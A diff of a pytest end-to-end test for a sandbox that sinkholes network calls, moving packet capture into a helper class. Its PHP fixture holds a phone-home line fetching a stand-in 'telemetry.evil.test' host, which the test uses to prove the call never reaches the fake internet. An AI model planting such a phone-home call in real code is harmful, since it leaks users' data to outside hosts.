@@ -12,15 +12,13 @@ from pathlib import Path
 
 import pytest
 
-from orchestrator.waits import Deadline, wait_for
-
 from .e2e_support import Cli, leftovers
+from .inet_capture import InetCapture
 from .test_e2e_run import line_of
 
 pytestmark = [pytest.mark.vm, pytest.mark.root]
 
 NAME = "sk-hole"
-INET = "sandbox-inet"
 
 SINKHOLED = """<?php
 $h = @file_get_contents('http://telemetry.evil.test/collect?id=42');
@@ -38,30 +36,6 @@ echo "sent\\n";
 """
 
 
-def _inet_capture(path: Path) -> subprocess.Popen[bytes]:
-    """tcpdump in the fake internet: every TCP and UDP packet that reaches it."""
-    log = path.with_suffix(".log")
-    argv = ["ip", "netns", "exec", INET, "tcpdump", "-i", "any", "-n", "-U", "-w", str(path)]
-    proc = subprocess.Popen(
-        [*argv, "tcp or udp"],
-        stdout=subprocess.DEVNULL,
-        stderr=log.open("wb"),
-    )
-    wait_for(
-        lambda: True if "listening on" in log.read_text(errors="replace") else None,
-        Deadline(20, "tcpdump in the fake internet to listen"),
-        interval=0.1,
-    )
-    return proc
-
-
-def _packets(path: Path) -> list[str]:
-    out = subprocess.run(
-        ["tcpdump", "-r", str(path), "-n"], capture_output=True, text=True, check=False
-    ).stdout
-    return out.splitlines()
-
-
 def test_sinkhole_records_what_php_would_have_sent(cli: Cli, tmp_path: Path) -> None:
     script, allowed = tmp_path / "phone_home.php", tmp_path / "allowed.php"
     script.write_text(SINKHOLED)
@@ -72,18 +46,17 @@ def test_sinkhole_records_what_php_would_have_sent(cli: Cli, tmp_path: Path) -> 
         state = json.loads((sandbox_dir / "state.json").read_text())
         pid = state["sinkhole_pid"]
         assert Path(f"/proc/{pid}").exists()
-        capture = tmp_path / "inet.pcap"
-        tcpdump = _inet_capture(capture)
-        try:
+        with InetCapture(cli.lab, tmp_path / "inet.pcap") as capture:
             ran = cli.ok("run", "--name", NAME, str(script))
-        finally:
-            tcpdump.terminate()
-            tcpdump.wait(timeout=10)
         assert ran.stdout == "same\n", ran.stdout + ran.stderr
         # Nothing of the sinkholed run reached the fake internet.
-        assert _packets(capture) == []
-        reached = cli.ok("run", "--name", NAME, str(allowed))
+        assert capture.packets() == []
+        # The same capture sees the allowed call: the empty one above proves something.
+        with InetCapture(cli.lab, tmp_path / "inet-allowed.pcap") as capture:
+            reached = cli.ok("run", "--name", NAME, str(allowed))
         assert reached.stdout == "sent\n", reached.stdout + reached.stderr
+        www = ("203.0.113.7.80:", "2001:db8:1::9.80:")  # www.inet.test, over either family
+        assert capture.packets(lambda p: any(a in p for a in www)), capture.packets()
         records = cli.records_when(
             NAME,
             lambda rs: sum(1 for r in rs if r.get("payload") and r.get("stack")) >= 3,
